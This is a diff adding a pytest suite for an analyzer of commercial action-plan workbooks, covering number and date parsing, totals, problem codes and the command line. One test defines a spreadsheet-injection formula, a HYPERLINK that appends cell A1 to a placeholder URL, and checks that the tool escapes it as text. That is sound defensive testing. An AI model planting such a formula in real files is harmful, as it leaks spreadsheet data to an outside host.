@@ -1,0 +1,375 @@
+"""The analyzer on workbooks filled the way people fill them, built here by code and saved by
+LibreOffice (also as .xls and .ods). Expected figures come from the raw inputs listed in this
+file: each typed text stands beside the number it means."""
+
+from __future__ import annotations
+
+import json
+import math
+from datetime import date, datetime, timedelta
+from pathlib import Path
+
+import openpyxl
+import pytest
+import xlsxwriter
+from click.testing import CliRunner
+
+from helpers import make, table_cells
+from libreoffice import convert
+from pac_excel import schema
+from pac_excel.analyze import analyze
+from pac_excel.cli import main
+from pac_excel.read.workbook import PlanReadError
+
+AS_OF = date(2026, 11, 16)
+
+# ------------------------------------------------------------------------------------ 1. the classic printed trame
+# (raw as typed, true value) — amounts as text in French and English forms, dates in every form.
+TRAME_TITLE = ["PLAN D'ACTION COMMERCIALE SOCIÉTÉ", "Notre vision de l'entreprise à 5 ans : devenir le leader régional",
+               "Les objectifs stratégiques que nous poursuivons", "1) Ouvrir 3 points de vente", ""]
+TRAME_HEADER = ["ACTIONS", "PHASES, ÉTAPES\n(décrire brièvement et indiquer, selon les cas, les objectifs prévus)",
+                "QUI ?\n(qui réalise l'action ?)", "BUDGET", "DATE DÉBUT", "DATE FIN", "OBJECTIF", "RÉSULTAT OBTENU",
+                "ANALYSE ÉCARTS"]
+# action, steps, owner, (budget raw, value), (start raw, value), (end raw, value), target, result, analysis
+TRAME_BLOCK_1 = [
+    ("Études de marché", "Clientèle ; concurrence", "Gérante", ("2 000 €", 2000), ("15/01/2026", date(2026, 1, 15)),
+     ("2026-03-20", date(2026, 3, 20)), 3, 3, ""),
+    ("Finalisation de l'offre", "Positionnement ; prix", "NA", ("12 500,50 €", 12500.5),
+     (46113, date(2026, 4, 1)), ("30/06/2026", date(2026, 6, 30)), 12, 8, ""),  # serial in a General cell
+    ("Identité commerciale", "Logo ; charte", "Chargée de com", ("1\u00a0234,56", 1234.56),
+     (date(2026, 2, 2), date(2026, 2, 2)), ("15 mars 2026", date(2026, 3, 15)), None, None, ""),
+]
+TRAME_BLOCK_2 = [
+    ("Supports de présentation", "Plaquettes ; site", "Chargée de com", ("1\u202f000,25 €", 1000.25),
+     ("01/03/2026", date(2026, 3, 1)), ("31/05/2026", date(2026, 5, 31)), 100, 70, ""),
+    ("Marketing direct", "200 appels par mois ; mailings", "Commercial", ("2,500.75", 2500.75),
+     ("01/04/2026", date(2026, 4, 1)), ("30/04/2026", date(2026, 4, 30)), 20, 25, "Bon fichier"),
+    ("Salon régional", "Stand", "", ("750", 750), ("", None), ("", None), None, None, ""),  # budget, no owner
+]
+TRAME_BAD = [  # unreadable values: reported, never counted
+    ("Fidélisation", "Cartes", "Gérante", ("1,234", None), ("31/02/2026", None), ("03/15/2026", None), None, None, ""),
+]
+
+
+def build_trame(path: Path) -> None:
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.title = "PAC 2026"
+    for line in TRAME_TITLE:
+        ws.append([line])
+    ws.append(TRAME_HEADER)
+    for block in (TRAME_BLOCK_1,):
+        for a in block:
+            ws.append(_trame_row(a))
+    ws.append([])
+    # A correct sub-total, typed. (A =SUM() here would be 0: the amounts above are text, and
+    # pac-excel would rightly report that the sheet's total disagrees with the true sum.)
+    ws.append(["Sous-total", "", "", _sum(a[3][1] for a in TRAME_BLOCK_1)])
+    ws.append([])
+    ws.append(TRAME_HEADER)  # the header block repeated
+    for a in TRAME_BLOCK_2 + TRAME_BAD:
+        ws.append(_trame_row(a))
+    ws.append(["TOTAL", "", "", 99999])  # a wrong total typed by hand
+    ws.append([])
+    ws.append(["Liste non limitative"])  # a note under the table
+    wb.save(path)
+
+
+def _trame_row(a) -> list:
+    action, steps, owner, (b, _), (s, _), (e, _), target, result, analysis = a
+    return [action, steps, owner, b, s, e, target, result, analysis]
+
+
+# ------------------------------------------------------------------------------------ 2. an English home-made sheet
+EN_HEADER = ["Owner", "Actions", "Budget (€)", "Start", "End", "Target", "Actual", "Status", "Notes"]
+EN_ROWS = [
+    ("Ann", "Webinar", ("1,234.56", 1234.56), date(2026, 9, 1), date(2026, 9, 30), 50, 20, "Done", ""),
+    ("Bo", "Cold calls", (800, 800), date(2026, 10, 1), date(2026, 10, 31), 10, None, "In progress", ""),
+    ("Ann", "Newsletter", ("15 %", None), date(2026, 12, 1), date(2026, 12, 31), None, None, "To do", ""),
+]
+
+
+def build_english(path: Path) -> None:
+    wb = xlsxwriter.Workbook(path)
+    ws = wb.add_worksheet("Sales plan")
+    df = wb.add_format({"num_format": "yyyy-mm-dd"})
+    ws.write_row(2, 1, EN_HEADER)  # starts at B3, a title above
+    ws.write(0, 1, "Sales plan 2026")
+    for i, (owner, action, (b, _), s, e, t, r, st, note) in enumerate(EN_ROWS):
+        row = 3 + i
+        ws.write_row(row, 1, [owner, action])
+        ws.write(row, 3, b)
+        ws.write_datetime(row, 4, datetime(s.year, s.month, s.day), df)
+        ws.write_datetime(row, 5, datetime(e.year, e.month, e.day), df)
+        for c, v in ((6, t), (7, r)):
+            if v is not None:
+                ws.write_number(row, c, v)
+        ws.write_string(row, 8, st)
+    wb.close()
+
+
+# ------------------------------------------------------------------------------------ 3. our own workbook, filled
+OWN_ROWS = [  # (action, owner, budget planned, budget actual, end, status, target, result, objective)
+    ("Salon 1", "Alice", 2000, 2150, date(2026, 2, 12), "Terminé", 40, 46, "OBJ-1"),
+    ("Salon 2", "Bob", 8000, 9200, date(2026, 5, 21), "En cours", 130, 98, "OBJ-1"),
+    ("Site web", "Alice", 9000, None, date(2027, 1, 31), "En cours", None, None, ""),
+]
+OWN_BELOW = ("Typed below the table", "Bob", 300, 250, date(2026, 6, 1), "Terminé", 5, 5, "OBJ-2")
+
+
+def build_own(src: Path) -> Path:
+    """Our template filled by a person: 4 table rows, a blank row, a row typed below the table,
+    the sheet renamed, one computed cell overwritten, one formula in error."""
+    blank = make(src, "own_model.xlsx", actions=4)
+    wb = openpyxl.load_workbook(blank)
+    ws = wb[schema.sheet_name("actions", "fr")]
+    headers, rows = table_cells(ws, ws.tables["T_Actions"])
+    col = {c.key: headers.index(c.label("fr")) for c in schema.ACTIONS.columns if c.label("fr") in headers}
+
+    def put(r: int, values) -> None:
+        keys = ("action", "owner", "budget_planned", "budget_actual", "end", "status", "target", "result", "objective")
+        for k, v in zip(keys, values):
+            if v is not None:
+                ws.cell(r, col[k] + 1).value = datetime(v.year, v.month, v.day) if isinstance(v, date) else v
+
+    first = rows[0][0].row
+    put(first, OWN_ROWS[0])
+    put(first + 2, OWN_ROWS[1])  # a blank row between
+    put(first + 3, OWN_ROWS[2])
+    put(first + 5, OWN_BELOW)  # below the 4-row table, after a blank row
+    ws.cell(first, col["variance"] + 1).value = 999  # a computed cell overwritten
+    ws.cell(first + 3, col["budget_actual"] + 1).value = "=1/0"  # a formula in error
+    ws.title = "Actions 2026"  # renamed
+    out = src / "own_filled.xlsx"
+    wb.save(out)
+    return out
+
+
+# ------------------------------------------------------------------------------------ corpus, through LibreOffice
+@pytest.fixture(scope="module")
+def corpus(lo_available, tmp_path_factory):
+    src = tmp_path_factory.mktemp("corpus")
+    build_trame(src / "trame.xlsx")
+    build_english(src / "english.xlsx")
+    own = build_own(src)
+    out = tmp_path_factory.mktemp("corpus-lo")
+    files = {}
+    files["trame.xlsx"], files["english.xlsx"], files["own.xlsx"] = convert(
+        [src / "trame.xlsx", src / "english.xlsx", own], out / "xlsx")
+    files["trame.xls"] = convert([files["trame.xlsx"]], out / "xls", fmt="xls")[0]
+    files["trame.ods"] = convert([files["trame.xlsx"]], out / "ods", fmt="ods")[0]
+    files["trame.xlsm"] = convert([files["trame.xlsx"]], out / "xlsm", fmt="xlsm:Calc MS Excel 2007 VBA XML")[0]
+    files["own_unsaved.xlsx"] = own  # written by openpyxl, never opened: no cached values at all
+    return files
+
+
+def _sum(values) -> float:
+    return round(math.fsum(v for v in values if v is not None), 2)
+
+
+def _codes(result) -> list[tuple[str, str | None]]:
+    return sorted((p.code, p.cell) for p in result.problems)
+
+
+@pytest.mark.parametrize("fmt", ["trame.xlsx", "trame.xls", "trame.ods", "trame.xlsm"])
+def test_printed_trame_is_read_exactly_in_every_format(corpus, fmt):
+    res = analyze(corpus[fmt], as_of=AS_OF)
+    good = TRAME_BLOCK_1 + TRAME_BLOCK_2
+    rows = good + TRAME_BAD
+    assert [a.action for a in res.actions] == [r[0] for r in rows]  # totals and repeated header not counted
+    tot = res.totals()
+    assert tot["actions"] == len(rows)
+    assert tot["budget_planned"] == _sum(r[3][1] for r in rows)
+    assert tot["budget_actual"] is None and tot["revenue_actual"] is None  # absent columns: unknown, not 0
+    assert [a.start for a in res.actions] == [r[4][1] for r in rows]
+    assert [a.end for a in res.actions] == [r[5][1] for r in rows]
+    assert [a.owner for a in res.actions][1] == "NA"  # a name, not a missing value
+    by_owner = res.group("owner")
+    assert by_owner["NA"]["budget_planned"] == 12500.5
+    codes = _codes(res)
+    sheet_rows = {r[0]: i for i, r in enumerate(rows)}
+    bad_row = [a.row for a in res.actions if a.action == "Fidélisation"][0]
+    assert ("ambiguous_number", f"D{bad_row}") in codes
+    assert ("invalid_date", f"E{bad_row}") in codes
+    assert ("ambiguous_date", f"F{bad_row}") in codes
+    total_row = 9 + 1 + 1 + 1 + 1 + len(TRAME_BLOCK_2 + TRAME_BAD) + 1 + 1  # titles, header, rows, gaps
+    mismatches = [p for p in res.problems if p.code == "total_mismatch"]
+    assert len(mismatches) == 1 and mismatches[0].cell.startswith("D")  # the wrong TOTAL; the sub-total is right
+    assert f"{_sum(r[3][1] for r in rows):,.2f}".replace(",", " ").replace(".00", "") in mismatches[0].message()
+    salon = [a for a in res.actions if a.action == "Salon régional"][0]
+    assert ("budget_without_owner", f"C{salon.row}") in codes
+    # law of numbers: "200 appels par mois" over one month for 25 contacts would be fine; here the
+    # indicator column is absent, so the check cannot apply and must stay silent
+    assert "law_of_numbers" not in {c for c, _ in codes}
+    assert sheet_rows and total_row
+
+
+def test_english_home_made_sheet_with_moved_columns(corpus):
+    res = analyze(corpus["english.xlsx"], as_of=AS_OF)
+    assert [a.action for a in res.actions] == [r[1] for r in EN_ROWS]
+    assert [a.owner for a in res.actions] == [r[0] for r in EN_ROWS]
+    assert res.totals()["budget_planned"] == _sum(r[2][1] for r in EN_ROWS)
+    assert [a.status_key for a in res.actions] == ["done", "in_progress", "todo"]
+    assert [a.late for a in res.actions] == [False, True, False]
+    # "15 %" in a money column is not an amount
+    assert ("invalid_number", "D6") in _codes(res)
+    first = res.actions[0]
+    assert first.variance == 20 - 50 and first.attainment == 20 / 50
+
+
+@pytest.mark.parametrize("name", ["own.xlsx", "own_unsaved.xlsx"])
+def test_own_workbook_filled_by_a_person(corpus, name):
+    res = analyze(corpus[name], as_of=AS_OF)
+    assert res.template == {"id": "pac", "version": "1.0"}
+    expected = OWN_ROWS + [OWN_BELOW]
+    assert [a.action for a in res.actions] == [r[0] for r in expected]
+    assert {a.sheet for a in res.actions} == {"Actions 2026"}
+    tot = res.totals()
+    assert tot["budget_planned"] == _sum(r[2] for r in expected)
+    # the budget typed as "=1/0" is an error value: reported, counted nowhere
+    actual = [r[3] for r in expected]
+    actual[2] = None
+    assert tot["budget_actual"] == _sum(actual)
+    late = [r[4] < AS_OF and r[5] not in ("Terminé", "Abandonné") for r in expected]
+    assert [a.late for a in res.actions] == late
+    assert tot["late"] == sum(late)
+    assert res.actions[0].variance == OWN_ROWS[0][7] - OWN_ROWS[0][6]  # recomputed, not the typed 999
+    codes = {c for c, _ in _codes(res)}
+    assert "computed_overwritten" in codes
+    if name == "own.xlsx":  # LibreOffice computed the error; a file never opened has no value to show
+        assert "error_value" in codes
+    assert "no_objective_link" in codes
+    site = [p for p in res.problems if p.code == "no_objective_link"]
+    assert [p.cell[1:] for p in site] == [str(res.actions[2].row)]
+
+
+def test_variance_threshold_and_past_end_checks(tmp_path):
+    from pac_excel import GenerateOptions, PlanData, generate
+
+    data = PlanData(as_of=AS_OF, actions=[
+        dict(action="Big miss", owner="A", objective="OBJ-1", target=100, result=70, end=date(2026, 3, 1),
+             status="Terminé", budget_planned=10),
+        dict(action="Explained miss", owner="A", objective="OBJ-1", target=100, result=70, end=date(2026, 3, 1),
+             status="Terminé", variance_analysis="Grève des transports"),
+        dict(action="Small miss", owner="A", objective="OBJ-1", target=100, result=85, end=date(2026, 3, 1),
+             status="Terminé"),
+        dict(action="No result", owner="A", objective="OBJ-1", target=10, end=date(2026, 3, 1), status="En cours"),
+        dict(action="Backwards", owner="A", objective="OBJ-1", start=date(2026, 5, 1), end=date(2026, 4, 1)),
+        dict(action="Calls", owner="A", objective="OBJ-2", indicator="Rendez-vous obtenus", target=10,
+             steps="20 appels", start=date(2026, 12, 1), end=date(2026, 12, 20)),
+    ], objectives=[dict(id="OBJ-1", objective="Gagner des clients", indicator="Clients"),
+                   dict(id="OBJ-2", objective="Entrer chez 3 grands comptes")],
+        kpis=[dict(name="Clients actifs", initial=150), dict(name="Réclamations", initial=10, target=5, m01=8)])
+    path = generate(tmp_path / "checks.xlsx", GenerateOptions(year=2026), data)
+    res = analyze(path, as_of=AS_OF)
+    rows = {a.action: a.row for a in res.actions}
+    codes = _codes(res)
+    cols = {c.key: i for i, c in enumerate(schema.ACTIONS.select())}
+    from pac_excel.read.tables import col_letter
+
+    def cell(key, action):
+        return f"{col_letter(cols[key])}{rows[action]}"
+
+    assert ("variance_unexplained", cell("variance_analysis", "Big miss")) in codes
+    assert not any(c == "variance_unexplained" and x in (cell("variance_analysis", "Explained miss"),
+                                                         cell("variance_analysis", "Small miss")) for c, x in codes)
+    assert ("past_end_no_result", cell("result", "No result")) in codes
+    assert ("end_before_start", cell("end", "Backwards")) in codes
+    assert ("law_of_numbers", cell("steps", "Calls")) in codes  # 20 calls < 3 × 10 meetings
+    res2 = analyze(path, as_of=AS_OF, stage="growth")
+    assert "law_of_numbers" not in {c for c, _ in _codes(res2)}  # 20 ≥ 2 × 10: enough in development
+    assert [p.params["value"] for p in res.problems if p.code == "objective_without_indicator"] == \
+        ["Entrer chez 3 grands comptes"]
+    kpi_missing = [p for p in res.problems if p.code == "kpi_missing_values"]
+    assert [(p.params["value"], p.params["column"]) for p in kpi_missing] == [("Clients actifs", "valeur cible")]
+    kp = {k.name: k for k in res.kpis}
+    assert kp["Réclamations"].attainment == (8 - 10) / (5 - 10)
+
+
+def test_1904_date_system(tmp_path):
+    path = tmp_path / "mac.xlsx"
+    wb = xlsxwriter.Workbook(path, {"date_1904": True})
+    ws = wb.add_worksheet()
+    ws.write_row(0, 0, ["Action", "Qui", "Budget", "Date début", "Date fin"])
+    ws.write_row(1, 0, ["Salon", "Alice", 100])
+    serial_1904 = (date(2026, 12, 31) - date(1904, 1, 1)).days
+    ws.write_number(1, 3, serial_1904)  # a serial in a General cell, 1904 system
+    ws.write_datetime(1, 4, datetime(2027, 1, 15), wb.add_format({"num_format": "dd/mm/yyyy"}))
+    wb.close()
+    res = analyze(path, as_of=AS_OF)
+    assert res.actions[0].start == date(2026, 12, 31) and res.actions[0].end == date(2027, 1, 15)
+
+
+def test_not_a_plan_and_not_a_workbook(tmp_path):
+    empty = tmp_path / "nothing.xlsx"
+    wb = xlsxwriter.Workbook(empty)
+    wb.add_worksheet().write("A1", "Bonjour")
+    wb.close()
+    with pytest.raises(PlanReadError) as err:
+        analyze(empty)
+    assert err.value.key == "read.no_table"
+    junk = tmp_path / "junk.xlsx"
+    junk.write_text("name,budget\nx,1\n")
+    with pytest.raises(PlanReadError):
+        analyze(junk)
+    r = CliRunner().invoke(main, ["analyze", str(junk)])
+    assert r.exit_code == 1 and "Traceback" not in r.output and "junk.xlsx" in r.output
+
+
+# ------------------------------------------------------------------------------------ the command line
+def test_analyze_json_contract(corpus, tmp_path):
+    r = CliRunner().invoke(main, ["analyze", str(corpus["trame.xlsx"]), "--as-of", "2026-11-16", "--format", "json"])
+    assert r.exit_code == 0, r.output
+    d = json.loads(r.output)
+    assert set(d) == {"source", "template", "as_of", "totals", "by_owner", "by_category", "by_status",
+                      "by_objective", "actions", "kpis", "problems"}
+    assert d["as_of"] == "2026-11-16" and d["template"] is None
+    assert set(d["totals"]) == {"actions", "budget_planned", "budget_actual", "budget_variance", "revenue_expected",
+                                "revenue_actual", "late", "done"}
+    assert d["totals"]["budget_actual"] is None
+    a = d["actions"][0]
+    assert set(a) == {"sheet", "row", "action", "owner", "category", "status", "objective", "budget_planned",
+                      "budget_actual", "start", "end", "target", "result", "variance", "attainment", "late"}
+    assert a["start"] == "2026-01-15" and a["budget_planned"] == 2000
+    assert {p["severity"] for p in d["problems"]} <= {"error", "warning"}
+    assert all(set(p) == {"severity", "code", "sheet", "cell", "message"} for p in d["problems"])
+
+
+def test_check_exit_codes(corpus, tmp_path):
+    r = CliRunner().invoke(main, ["check", str(corpus["trame.xlsx"]), "--as-of", "2026-11-16"])
+    assert r.exit_code == 1 and "ambiguous_number" in r.output  # errors present
+    clean = make(tmp_path, "clean.xlsx")
+    r = CliRunner().invoke(main, ["check", str(clean), "--format", "json", "--lang", "en"])
+    assert r.exit_code == 0 and json.loads(r.output)["problems"] == []
+    assert CliRunner().invoke(main, ["analyze", str(clean), "--as-of", "16/11/2026"]).exit_code == 2
+
+
+def test_report_workbook_and_csv_keep_hostile_text_as_text(tmp_path):
+    from pac_excel import GenerateOptions, PlanData, generate
+
+    evil = '=HYPERLINK("http://x/?d="&A1,"Clic")'
+    src = generate(tmp_path / "evil.xlsx", GenerateOptions(),
+                   PlanData(actions=[dict(action=evil, owner="+33 6", budget_planned=10, objective="OBJ-1")]))
+    before = src.read_bytes()
+    out = tmp_path / "report.xlsx"
+    r = CliRunner().invoke(main, ["analyze", str(src), "-o", str(out), "--format", "csv"])
+    assert r.exit_code == 0, r.output
+    assert src.read_bytes() == before  # the input is never written
+    lines = r.output.strip().splitlines()
+    assert lines[1].split(",")[2].startswith('"\'=HYPERLINK') and ",'+33 6," in lines[1]
+    wb = openpyxl.load_workbook(out)
+    assert wb.sheetnames == ["Synthèse", "Écarts", "Retards", "Indicateurs", "Problèmes"]
+    cell = wb["Écarts"]["C2"]
+    assert cell.value == evil and cell.data_type == "s"
+    again = CliRunner().invoke(main, ["analyze", str(src), "-o", str(out)])
+    assert again.exit_code == 1 and "--force" in again.output
+    same = CliRunner().invoke(main, ["analyze", str(src), "-o", str(src), "--force"])
+    assert same.exit_code == 2 and src.read_bytes() == before
+
+
+def test_dataframes(corpus):
+    res = analyze(corpus["trame.xlsx"], as_of=AS_OF)
+    df = res.actions_frame()
+    assert len(df) == len(res.actions) and df["budget_planned"].sum() == pytest.approx(res.totals()["budget_planned"])
+    assert list(res.kpis_frame().columns) == ["name", "type", "direction", "initial", "target", "latest", "attainment"]
+    assert timedelta(0) == timedelta(0)
